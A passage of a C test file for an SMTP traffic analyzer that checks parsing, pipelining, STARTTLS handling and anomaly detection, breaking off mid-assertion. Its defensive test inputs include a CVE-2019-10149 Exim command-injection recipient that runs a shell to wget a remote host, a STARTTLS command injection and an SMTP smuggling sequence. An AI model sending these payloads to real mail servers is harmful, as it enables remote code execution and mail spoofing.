/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * SMTP analyzer tests: a realistic submission session (EHLO, two AUTH
 * attempts, a multipart message over DATA, a second message over BDAT, an
 * RSET) compared as exact JSON, the same session one byte per segment,
 * pipelining, STARTTLS with and without command injection, gaps, caps, and
 * each anomaly with the evidence the detection team relies on.
 */
#include "apptest.h"

#include <stdio.h>
#include <stdlib.h>

struct step {
	int dir;
	const char *text;
	size_t len;              /* 0: strlen(text) */
};

#define C(s) { MT_DIR_C2S, s, 0 }
#define S(s) { MT_DIR_S2C, s, 0 }

/* The PDF-like attachment: 327 bytes whose SHA-256 was computed apart from
 * mailtap (python3 hashlib and sha256sum over the decoded bytes):
 * 026f5783e42f0eafc417b1dbc1750f13dd5b99642e64a3d1465c263884cee22b */
#define PDF_B64                                                                 \
	"JVBERi0xLjQKJeLjz9MKMSAwIG9iago8PCAvVHlwZSAvQ2F0YWxvZyAvUGFnZXMgMiAwIFIgPj4K\r\n" \
	"ZW5kb2JqCgABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAx\r\n" \
	"MjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlq\r\n" \
	"a2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKj\r\n" \
	"pKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc\r\n" \
	"3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8KJSVFT0YK\r\n"
#define PDF_SHA "026f5783e42f0eafc417b1dbc1750f13dd5b99642e64a3d1465c263884cee22b"

/* Message 1 as on the wire: dot-stuffed, multipart/mixed with a text part,
 * the PDF (RFC 2231 file name) and a quoted-printable Latin-1 part. */
#define MSG1_HEAD                                                               \
	"From: Alice Example <alice@example.com>\r\n"                          \
	"To: Bob <bob@example.org>, \"Doe, Carol\" <carol@example.net>\r\n"   \
	"Cc: nobody@example.org\r\n"                                           \
	"Subject: =?UTF-8?B?UmU6IFLDqXN1bcOp?=\r\n"                            \
	" =?ISO-8859-1?Q?_caf=E9?= and more\r\n"                               \
	"Date: Wed, 01 May 2024 10:00:00 +0000\r\n"                            \
	"Message-ID: <20240501100000.1234@example.com>\r\n"                    \
	"X-Mailer: mailtap-test 1.0\r\n"                                       \
	"Received: from a.example by b.example; Wed, 01 May 2024 09:59:00 +0000\r\n" \
	"Received: from c.example\r\n"                                         \
	"\tby d.example; Wed, 01 May 2024 09:58:00 +0000\r\n"                  \
	"MIME-Version: 1.0\r\n"                                                \
	"Content-Type: multipart/mixed;\r\n"                                   \
	" boundary=\"=_outer_42\"\r\n"                                         \
	"\r\n"                                                                 \
	"This is a multi-part message in MIME format.\r\n"
#define MSG1_TEXT                                                               \
	"--=_outer_42\r\n"                                                     \
	"Content-Type: text/plain; charset=utf-8\r\n"                          \
	"\r\n"                                                                 \
	"Hello Bob,\r\n"                                                       \
	"..this line starts with a dot\r\n"                                    \
	"...\r\n"                                                              \
	"\r\n"
#define MSG1_PDF                                                                \
	"--=_outer_42\r\n"                                                     \
	"Content-Type: application/pdf\r\n"                                    \
	"Content-Transfer-Encoding: base64\r\n"                                \
	"Content-Disposition: attachment;\r\n"                                 \
	" filename*=UTF-8''r%C3%A9sum%C3%A9.pdf\r\n"                           \
	"\r\n"                                                                 \
	PDF_B64
/* Decoded: "Caf\xe9 au lait, tr\xe8s bien.\r\nSecond line= ok" (41 bytes;
 * the trailing blanks go, the CRLF before the delimiter is the delimiter's):
 * printf ... | sha256sum gives 4b14c5200ba3c2682166b746765226bf43350be978f4d1bd5344655951d3f51d */
#define MSG1_QP                                                                 \
	"--=_outer_42\r\n"                                                     \
	"Content-Type: text/plain; charset=iso-8859-1; name=\"notes.txt\"\r\n" \
	"Content-Transfer-Encoding: quoted-printable\r\n"                      \
	"Content-Disposition: inline\r\n"                                      \
	"\r\n"                                                                 \
	"Caf=E9 au lait, tr=E8s =\r\n"                                         \
	"bien.  \r\n"                                                          \
	"Second line=3D ok\r\n"                                                \
	"--=_outer_42--\r\n"                                                   \
	"epilogue\r\n"
#define MSG1 MSG1_HEAD MSG1_TEXT MSG1_PDF MSG1_QP

#define MSG2_A                                                                  \
	"From: alice@example.com\r\n"                                          \
	"To: dave@example.org\r\n"                                             \
	"Subject: chunked\r\n"
#define MSG2_B                                                                  \
	"Content-Type: text/plain; name=\"chunk.txt\"\r\n"                     \
	"\r\n"                                                                 \
	"line one\r\n"                                                         \
	".\r\n"                                                                \
	"line three\r\n"

static char bdat1[128], bdat2[256];

static const struct step session[] = {
	S("220 mail.example.org ESMTP Postfix\r\n"),
	C("EHLO client.example.com\r\n"),
	S("250-mail.example.org\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
	  "250-STARTTLS\r\n250-AUTH PLAIN LOGIN\r\n250-ENHANCEDSTATUSCODES\r\n"
	  "250-8BITMIME\r\n250-CHUNKING\r\n250 SMTPUTF8\r\n"),
	/* "\0alice\0wrong" */
	C("AUTH PLAIN AGFsaWNlAHdyb25n\r\n"),
	S("535 5.7.8 Error: authentication failed: authentication failure\r\n"),
	C("AUTH LOGIN\r\n"),
	S("334 VXNlcm5hbWU6\r\n"),
	C("YWxpY2U=\r\n"),
	S("334 UGFzc3dvcmQ6\r\n"),
	C("c2VjcmV0\r\n"),
	S("235 2.7.0 Authentication successful\r\n"),
	C("MAIL FROM:<alice@example.com> SIZE=2048 BODY=8BITMIME\r\n"),
	S("250 2.1.0 Ok\r\n"),
	C("RCPT TO:<bob@example.org>\r\n"),
	S("250 2.1.5 Ok\r\n"),
	C("RCPT TO:<nobody@example.org>\r\n"),
	S("550 5.1.1 <nobody@example.org>: Recipient address rejected: User unknown\r\n"),
	C("RCPT TO:<carol@example.net>\r\n"),
	S("250 2.1.5 Ok\r\n"),
	C("DATA\r\n"),
	S("354 End data with <CR><LF>.<CR><LF>\r\n"),
	C(MSG1 ".\r\n"),
	S("250 2.0.0 Ok: queued as 4VZ1kx\r\n"),
	C("MAIL FROM:<alice@example.com>\r\n"),
	S("250 2.1.0 Ok\r\n"),
	C("RCPT TO:<dave@example.org>\r\n"),
	S("250 2.1.5 Ok\r\n"),
	{ MT_DIR_C2S, bdat1, 0 },
	S("250 2.0.0 Ok: 62 bytes\r\n"),
	{ MT_DIR_C2S, bdat2, 0 },
	S("250 2.0.0 Ok: queued as 4VZ1ky\r\n"),
	C("MAIL FROM:<alice@example.com>\r\n"),
	S("250 2.1.0 Ok\r\n"),
	C("RSET\r\n"),
	S("250 2.0.0 Ok\r\n"),
	C("QUIT\r\n"),
	S("221 2.0.0 Bye\r\n"),
};

static void make_bdat(void)
{
	snprintf(bdat1, sizeof(bdat1), "BDAT %zu\r\n%s", strlen(MSG2_A), MSG2_A);
	snprintf(bdat2, sizeof(bdat2), "BDAT %zu LAST\r\n%s", strlen(MSG2_B), MSG2_B);
}

/* strstr with the whole output shown when it fails. */
#define has(out, needle) has_((out), (needle), true, __LINE__)
#define hasnt(out, needle) has_((out), (needle), false, __LINE__)

static void has_(const char *out, const char *needle, bool want, int line)
{
	if ((strstr(out, needle) != NULL) != want) {
		fprintf(stderr, "line %d: %s\n  %s\nin:\n%s", line,
			want ? "missing" : "unexpected", needle, out);
		fail();
	}
}

static void run_steps(const struct step *st, size_t n, size_t chunk)
{
	for (size_t i = 0; i < n; i++)
		at_feed(st[i].dir, st[i].text, st[i].len ? st[i].len : strlen(st[i].text),
			chunk);
}

/* For comparisons across chunkings: timestamps are packet times. */
static char *strip_timestamps(const char *in)
{
	char *out = strdup(in), *w = out;
	const char *r = in;

	assert_non_null(out);
	while (*r) {
		if (!strncmp(r, "\"timestamp\":\"", 13)) {
			r = strchr(r + 13, '"') + 1;
			if (*r == ',')
				r++;
			continue;
		}
		*w++ = *r++;
	}
	*w = '\0';
	return out;
}

#define CONN(ts, type)                                                          \
	"{\"timestamp\":\"2024-05-01T10:00:00." ts "+0000\",\"flow_id\":4242,"  \
	"\"event_type\":\"" type "\",\"src_ip\":\"192.0.2.1\",\"src_port\":40000," \
	"\"dest_ip\":\"192.0.2.25\",\"dest_port\":587,\"proto\":\"TCP\",\"app_proto\":\"smtp\","
#define CAPS                                                                    \
	"\"capabilities\":[\"PIPELINING\",\"SIZE 10240000\",\"STARTTLS\",\"AUTH PLAIN LOGIN\"," \
	"\"ENHANCEDSTATUSCODES\",\"8BITMIME\",\"CHUNKING\",\"SMTPUTF8\"],\"starttls_offered\":true," \
	"\"auth_mech\":\"LOGIN\",\"auth_user\":\"alice\",\"auth_result\":\"success\",\"auth_attempts\":2"

static const char *expect =
	CONN("000005", "auth")
	"\"auth\":{\"mechanism\":\"PLAIN\",\"user\":\"alice\",\"result\":\"failure\",\"cleartext\":true,"
	"\"reply\":\"535 5.7.8 Error: authentication failed: authentication failure\",\"attempt\":1}}\n"
	CONN("000011", "auth")
	"\"auth\":{\"mechanism\":\"LOGIN\",\"user\":\"alice\",\"result\":\"success\",\"cleartext\":true,"
	"\"reply\":\"235 2.7.0 Authentication successful\",\"attempt\":2}}\n"
	/* Timestamp: its MAIL FROM. */
	CONN("000012", "smtp")
	"\"smtp\":{\"helo\":\"client.example.com\",\"mail_from\":\"<alice@example.com>\","
	"\"rcpt_to\":[\"<bob@example.org>\",\"<nobody@example.org>\",\"<carol@example.net>\"],"
	"\"rcpt_reply\":[250,550,250],\"recipients\":3,\"mail_params\":\"SIZE=2048 BODY=8BITMIME\","
	"\"mail_reply\":250,\"data_reply\":250,\"status\":\"delivered\",\"transaction\":1,"
	"\"message_size\":1527," CAPS "},"
	"\"email\":{\"from\":\"Alice Example <alice@example.com>\","
	"\"to\":[\"Bob <bob@example.org>\",\"\\\"Doe, Carol\\\" <carol@example.net>\"],"
	"\"cc\":[\"nobody@example.org\"],\"subject\":\"Re: R\xc3\xa9sum\xc3\xa9 caf\xc3\xa9 and more\","
	"\"message_id\":\"<20240501100000.1234@example.com>\",\"date\":\"Wed, 01 May 2024 10:00:00 +0000\","
	"\"x_mailer\":\"mailtap-test 1.0\",\"received_count\":2,\"parts\":3,"
	"\"attachment\":[\"r\xc3\xa9sum\xc3\xa9.pdf\",\"notes.txt\"],"
	"\"files\":[{\"filename\":\"r\xc3\xa9sum\xc3\xa9.pdf\",\"content_type\":\"application/pdf\","
	"\"size\":327,\"sha256\":\"" PDF_SHA "\"},"
	"{\"filename\":\"notes.txt\",\"content_type\":\"text/plain\",\"size\":41,"
	"\"sha256\":\"4b14c5200ba3c2682166b746765226bf43350be978f4d1bd5344655951d3f51d\"}]}}\n"
	CONN("000024", "smtp")
	"\"smtp\":{\"helo\":\"client.example.com\",\"mail_from\":\"<alice@example.com>\","
	"\"rcpt_to\":[\"<dave@example.org>\"],\"rcpt_reply\":[250],\"recipients\":1,"
	"\"mail_reply\":250,\"data_reply\":250,\"status\":\"delivered\",\"transaction\":2,"
	"\"message_size\":136,\"bdat\":true," CAPS "},"
	"\"email\":{\"from\":\"alice@example.com\",\"to\":[\"dave@example.org\"],\"subject\":\"chunked\","
	"\"parts\":1,\"attachment\":[\"chunk.txt\"],\"files\":[{\"filename\":\"chunk.txt\","
	"\"content_type\":\"text/plain\",\"size\":25,"
	"\"sha256\":\"f79a0293f5707bb3967d65b07908cffd8b97d16ba9cf6c83807d41daca32989d\"}]}}\n"
	CONN("000032", "smtp")
	"\"smtp\":{\"helo\":\"client.example.com\",\"mail_from\":\"<alice@example.com>\","
	"\"mail_reply\":250,\"status\":\"aborted\",\"transaction\":3," CAPS "}}\n";

static void test_session_exact(void **state)
{
	(void)state;
	make_bdat();
	at_open(MT_APP_SMTP, 587);
	run_steps(session, MT_ARRAY_SIZE(session), 0);
	assert_string_equal(at_close(), expect);
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();
}

/* The same session in segments of 1, 2, 3, ... bytes: every line, reply,
 * boundary, encoded word and terminator split everywhere; only the
 * timestamps may move. */
static void test_session_chunked(void **state)
{
	static const size_t chunks[] = { 1, 2, 3, 5, 7, 13, 64 };
	char *want;

	(void)state;
	make_bdat();
	want = strip_timestamps(expect);
	for (size_t k = 0; k < MT_ARRAY_SIZE(chunks); k++) {
		char *got;

		at_open(MT_APP_SMTP, 587);
		run_steps(session, MT_ARRAY_SIZE(session), chunks[k]);
		got = strip_timestamps(at_close());
		assert_string_equal(got, want);
		assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
		free(got);
		at_free();
	}
	free(want);
}

/* RFC 2920: a whole envelope in one segment, the replies in one segment,
 * and the next envelope sent right after the end of data, before its
 * reply. Every reply must land on its own command and transaction. */
static void test_pipelining(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx ESMTP\r\n");
	at_c2s("EHLO relay.example\r\n");
	at_s2c("250-mx\r\n250 PIPELINING\r\n");
	at_c2s("MAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>\r\n"
	       "RCPT TO:<c@example.org>\r\nRCPT TO:<d@example.org>\r\nDATA\r\n");
	at_s2c("250 ok\r\n250 ok\r\n550 no such user\r\n250 ok\r\n354 go ahead\r\n");
	at_c2s("Subject: one\r\n\r\nbody\r\n.\r\n"
	       "MAIL FROM:<e@example.com>\r\nRCPT TO:<f@example.org>\r\nDATA\r\n");
	at_s2c("250 queued\r\n250 ok\r\n451 4.3.0 try later\r\n554 5.5.1 no valid recipients\r\n");
	at_c2s("QUIT\r\n");
	at_s2c("221 bye\r\n");
	out = at_close();
	has(out, "\"mail_from\":\"<a@example.com>\",\"rcpt_to\":[\"<b@example.org>\","
				    "\"<c@example.org>\",\"<d@example.org>\"],\"rcpt_reply\":[250,550,250],"
				    "\"recipients\":3,\"mail_reply\":250,\"data_reply\":250,"
				    "\"status\":\"delivered\",\"transaction\":1,\"message_size\":22");
	has(out, "\"subject\":\"one\"");
	has(out, "\"mail_from\":\"<e@example.com>\",\"rcpt_to\":[\"<f@example.org>\"],"
				    "\"rcpt_reply\":[451],\"recipients\":1,\"mail_reply\":250,"
				    "\"data_reply\":554,\"status\":\"rejected\",\"transaction\":2");
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();
}

/* 100 recipients in one pipelined group share FIFO entries; 64 are kept. */
static void test_many_recipients(void **state)
{
	char cmds[100 * 32], replies[100 * 16];
	size_t c = 0, r = 0;
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("MAIL FROM:<bulk@example.com>\r\n");
	at_s2c("250 ok\r\n");
	for (int i = 0; i < 100; i++) {
		c += (size_t)snprintf(cmds + c, sizeof(cmds) - c, "RCPT TO:<u%d@example.org>\r\n", i);
		r += (size_t)snprintf(replies + r, sizeof(replies) - r, "%s\r\n",
				      i == 99 ? "550 no" : "250 ok");
	}
	at_c2s(cmds);
	at_s2c(replies);
	at_c2s("RSET\r\n");
	at_s2c("250 ok\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_too_many_commands_pipelined], 0);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_too_many_recipients], 36);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_without_command], 0);
	has(out, "\"<u63@example.org>\"],\"rcpt_reply\":[250,");
	hasnt(out, "\"<u64@example.org>\"");
	has(out, "\"recipients\":100,");
	has(out, "\"status\":\"aborted\"");
	at_free();
}

static void test_starttls_switch(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx ESMTP\r\n");
	at_c2s("EHLO client\r\n");
	at_s2c("250-mx\r\n250-STARTTLS\r\n250 8BITMIME\r\n");
	at_c2s("STARTTLS\r\n");
	/* The ServerHello may share the segment with the 220: it is TLS's. */
	at_s2c("220 2.0.0 Ready to start TLS\r\n\x16\x03\x03\x00\x04\x02\x00\x00\x00");
	at_c2s("\x16\x03\x01\x00\x04\x01\x00\x00\x00");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_app_starttls_switches], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_app_data_before_starttls_reply], 0);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_invalid_reply], 0);
	has(out, "{\"timestamp\":\"2024-05-01T10:00:00.000000+0000\",\"flow_id\":4242,"
				    "\"event_type\":\"smtp\"");
	has(out, "\"smtp\":{\"helo\":\"client\",\"status\":\"no_transaction\","
				    "\"capabilities\":[\"STARTTLS\",\"8BITMIME\"],\"starttls_offered\":true,"
				    "\"starttls_requested\":true,\"starttls_reply\":220}}");
	at_free();

	/* Refused: the session goes on in clear. */
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx ESMTP\r\n");
	at_c2s("STARTTLS\r\n");
	at_s2c("454 4.7.0 TLS not available\r\n");
	at_c2s("QUIT\r\n");
	at_s2c("221 bye\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_app_starttls_switches], 0);
	has(out, "\"starttls_requested\":true,\"starttls_reply\":454");
	at_free();
}

/* CVE-2011-0411: commands pipelined after STARTTLS, before its reply, are
 * executed inside the TLS session by servers that keep them. */
static void test_starttls_injection(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx ESMTP\r\n");
	at_c2s("STARTTLS\r\nRSET\r\nMAIL FROM:<attacker@example.net>\r\n");
	at_s2c("220 ready\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_app_data_before_starttls_reply], 1);
	assert_int_equal(at.ctr.v[MT_CTR_app_starttls_switches], 1);
	has(out, "\"event\":\"app_data_before_starttls_reply\",\"direction\":\"toserver\","
				    "\"evidence\":\"RSET\\r\\nMAIL FROM:<attacker@example.net>\\r\\n\"}");
	at_free();

	/* The same in a segment of its own. */
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx ESMTP\r\n");
	at_c2s("STARTTLS\r\n");
	at_c2s("NOOP\r\n");
	at_s2c("220 ready\r\n");
	at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_app_data_before_starttls_reply], 1);
	at_free();
}

static void test_anomalies_commands(void **state)
{
	char longcmd[700];
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_c2s("EHLO early\r\n");                       /* before the greeting */
	at_s2c("220 mx\r\n");
	at_s2c("250 mx\r\n");                           /* reply to the EHLO */
	at_s2c("250 nobody asked\r\n");                 /* reply without command */
	at_s2c("hello?\r\n");                           /* invalid reply */
	at_c2s("XYZZY\r\n");                            /* unknown verb */
	at_s2c("502 5.5.2 Error: command not recognized\r\n");
	at_feed(MT_DIR_C2S, "NOOP a\0b\r\n", 10, 0);    /* NUL */
	at_s2c("250 ok\r\n");
	at_c2s("VRFY b\xc3\xa9\r\n");                   /* non-ASCII */
	at_s2c("252 maybe\r\n");
	memset(longcmd, 'A', sizeof(longcmd));
	memcpy(longcmd, "NOOP ", 5);
	memcpy(longcmd + sizeof(longcmd) - 3, "\r\n", 3);
	at_c2s(longcmd);                                /* over 512 bytes */
	at_s2c("500 5.5.2 line too long\r\n");
	at_c2s("AUTH PLAIN !!notbase64!!\r\n");
	at_s2c("501 5.5.2 bad\r\n");
	at_c2s("BDAT ten LAST\r\n");
	at_s2c("501 5.5.4 bad\r\n");
	/* CVE-2019-10149, as sent against Exim 4.87-4.91. */
	at_c2s("MAIL FROM:<>\r\n");
	at_s2c("250 OK\r\n");
	at_c2s("RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20198.51.100.7\\x22}}@localhost>\r\n");
	at_s2c("250 Accepted\r\n");
	at_c2s("QUIT\r\n");
	at_s2c("221 bye\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_command_before_greeting], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_without_command], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_invalid_reply], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_unknown_command], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_nul_in_command], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_non_ascii_command], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_command_too_long], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_bad_base64], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_bdat_bad_size], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_expansion_string], 1);
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 10);
	has(out, "\"event\":\"smtp_command_before_greeting\",\"direction\":\"toserver\","
				    "\"evidence\":\"EHLO early\"}");
	/* Evidence: the argument, cut at 64 bytes. */
	has(out, "\"event\":\"smtp_expansion_string\",\"direction\":\"toserver\","
		 "\"evidence\":\"TO:<${run{\\\\x2Fbin\\\\x2Fsh\\\\t-c\\\\t\\\\x22wget\\\\x20198.51.100.7\\\\x22}}@loca\"}");
	has(out, "\"event\":\"smtp_command_too_long\",\"direction\":\"toserver\","
				    "\"evidence\":\"NOOP AAAA");
	has(out, "\"event\":\"smtp_nul_in_command\",\"direction\":\"toserver\","
				    "\"evidence\":\"NOOP a\\u0000b\"}");
	/* The exploit's recipient is in the record too. */
	has(out, "\"rcpt_to\":[\"<${run{");
	at_free();
}

static void small_caps(struct mt_app_config *cfg)
{
	cfg->smtp_rcpt_max = 2;
	cfg->smtp_reply_max = 64;
}

static void test_anomalies_replies_and_caps(void **state)
{
	char ehlo[48 * 16 + 64], noops[40 * 6 + 1], oks[40 * 8 + 1], longreply[200];
	size_t k = 0;
	const char *out;

	(void)state;
	at_open_cfg(MT_APP_SMTP, 25, small_caps);
	at_s2c("220 mx\r\n");
	at_c2s("EHLO c\r\n");
	k = (size_t)snprintf(ehlo, sizeof(ehlo), "250-mx\r\n");
	for (int i = 0; i < 40; i++)
		k += (size_t)snprintf(ehlo + k, sizeof(ehlo) - k, "250-X-CAP%d\r\n", i);
	snprintf(ehlo + k, sizeof(ehlo) - k, "250 PIPELINING\r\n");
	at_s2c(ehlo);                                   /* 41 capabilities */
	noops[0] = oks[0] = '\0';
	for (int i = 0; i < 40; i++) {
		strcat(noops, "NOOP\r\n");
		strcat(oks, "250 ok\r\n");
	}
	at_c2s(noops);                                  /* 40 pipelined */
	at_s2c(oks);
	memset(longreply, 'x', sizeof(longreply));
	memcpy(longreply, "250 ", 4);
	memcpy(longreply + sizeof(longreply) - 3, "\r\n", 3);
	at_c2s("MAIL FROM:<a@example.com>\r\n");
	at_s2c(longreply);                              /* over smtp_reply_max */
	at_c2s("RCPT TO:<b@example.org>\r\nRCPT TO:<c@example.org>\r\nRCPT TO:<d@example.org>\r\n");
	at_s2c("250 ok\r\n250 ok\r\n250 ok\r\n");
	/* No CHUNKING was offered. */
	at_c2s("BDAT 5 LAST\r\nhello");
	at_s2c("250 ok\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_capabilities_truncated], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_too_many_commands_pipelined], 8);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_without_command], 0);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_too_long], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_too_many_recipients], 1);
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_bdat_without_chunking], 1);
	has(out, "\"rcpt_to\":[\"<b@example.org>\",\"<c@example.org>\"],"
				    "\"rcpt_reply\":[250,250],\"recipients\":3,");
	has(out, "\"status\":\"delivered\"");
	has(out, "\"X-CAP31\"]}");   /* 32 kept */
	at_free();
}

/* What a tap that sees one direction, or loses part of a command, must not
 * blame on the client or the server. */
static void test_partial_views(void **state)
{
	(void)state;
	/* Asymmetric routing: only the client's half. */
	at_open(MT_APP_SMTP, 25);
	at_c2s("EHLO client.example.org\r\n");
	at_c2s("QUIT\r\n");
	has(at_close(), "\"smtp\":{\"helo\":\"client.example.org\",\"status\":\"no_transaction\"}}");
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();

	/* The end of a command lost in an IP fragment: the reply still comes. */
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("EHLO aaaaaaaa");
	at_s2c("250 8BITMIME\r\n");
	at_close();
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();
}

/* SMTP smuggling (CVE-2023-51764 and siblings): "<LF>.<LF>" inside the
 * data is not the end for RFC 5321, but some servers take it as such. */
static void test_smuggling(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("MAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n");
	at_s2c("250 ok\r\n250 ok\r\n354 go\r\n");
	at_c2s("Subject: hi\r\n\r\nbody\n.\nMAIL FROM:<admin@example.com>\r\n"
	       "RCPT TO:<victim@example.org>\r\nDATA\r\n\r\nsmuggled\r\n.\r\n");
	at_s2c("250 queued\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_data_smuggling], 1);
	has(out, "\"event\":\"smtp_data_smuggling\",\"direction\":\"toserver\","
				    "\"evidence\":\".\\nMAIL FROM:<admin@example.com>");
	/* One transaction, as an RFC 5321 server sees it. */
	has(out, "\"status\":\"delivered\",\"transaction\":1,");
	hasnt(out, "\"transaction\":2");
	at_free();

	/* A server that did stop at "\n.\n" answers before our end of data:
	 * that is reported too, and its reply ends the message. */
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("MAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n");
	at_s2c("250 ok\r\n250 ok\r\n354 go\r\n");
	at_c2s("Subject: hi\r\n\r\nbody\r\n.\r");
	at_c2s("more\r\n");
	at_s2c("250 queued\r\n");
	at_c2s("QUIT\r\n");
	at_s2c("221 bye\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_data_smuggling], 2);
	has(out, "\"data_reply\":250,\"status\":\"delivered\"");
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_reply_without_command], 0);
	at_free();

	/* Bare-LF lines starting with a dot that cannot end anything, and
	 * stuffed dots after CRLF, are fine. */
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("MAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n");
	at_s2c("250 ok\r\n250 ok\r\n354 go\r\n");
	at_c2s("Subject: hi\n\nunix\n.profile\n..\r\n...x\r\n.\r\n");
	at_s2c("250 queued\r\n");
	out = at_close();
	assert_int_equal(at.ctr.v[MT_CTR_anomaly_smtp_data_smuggling], 0);
	has(out, "\"status\":\"delivered\",\"transaction\":1,\"message_size\":36");
	at_free();
}

static void test_rejections(void **state)
{
	const char *out;

	(void)state;
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("HELO spam.example\r\n");
	at_s2c("250 mx\r\n");
	at_c2s("MAIL FROM:<spam@example.net>\r\n");
	at_s2c("550 5.7.1 sender rejected\r\n");
	at_c2s("MAIL FROM:<other@example.net>\r\n");
	at_s2c("250 ok\r\n");
	at_c2s("RCPT TO:<x@example.org>\r\n");
	at_s2c("550 5.1.1 unknown\r\n");
	at_c2s("DATA\r\n");
	at_s2c("554 5.5.1 Error: no valid recipients\r\n");
	at_c2s("MAIL FROM:<third@example.net>\r\n");
	at_s2c("250 ok\r\n");
	at_c2s("RCPT TO:<y@example.org>\r\n");
	at_s2c("250 ok\r\n");
	at_c2s("DATA\r\n");
	at_s2c("354 go\r\n");
	at_c2s("Subject: x\r\n\r\nspam\r\n.\r\n");
	at_s2c("550 5.7.1 content rejected\r\n");
	at_c2s("MAIL FROM:<fourth@example.net>\r\n");
	at_s2c("250 ok\r\n");
	at_c2s("QUIT\r\n");
	at_s2c("221 bye\r\n");
	out = at_close();
	has(out, "\"helo\":\"spam.example\",\"mail_from\":\"<spam@example.net>\","
				    "\"mail_reply\":550,\"status\":\"rejected\",\"transaction\":1}");
	has(out, "\"rcpt_reply\":[550],\"recipients\":1,\"mail_reply\":250,"
				    "\"data_reply\":554,\"status\":\"rejected\",\"transaction\":2}");
	has(out, "\"data_reply\":550,\"status\":\"rejected\",\"transaction\":3,"
				    "\"message_size\":20}");
	has(out, "\"mail_from\":\"<fourth@example.net>\",\"mail_reply\":250,"
				    "\"status\":\"aborted\",\"transaction\":4}");
	assert_int_equal(at.ctr.v[MT_CTR_app_anomaly_records], 0);
	at_free();

	/* A session without any transaction still shows who said what. */
	at_open(MT_APP_SMTP, 25);
	at_s2c("220 mx\r\n");
	at_c2s("EHLO scanner\r\n");
	at_s2c("250-mx\r\n250 AUTH LOGIN\r\n");
	at_c2s("AUTH LOGIN dXNlcg==\r\n");
	at_s2c("334 UGFzc3dvcmQ6\r\n");
	at_c2s("*\r\n");
	at_s2c("501 5.7.0 Authentication aborted\r\n");
	at_c2s("QUIT\r\n");
	at_s2c("221 bye\r\n");
	out = at_close();
	has(out, "\"auth\":{\"mechanism\":\"LOGIN\",\"user\":\"user\","
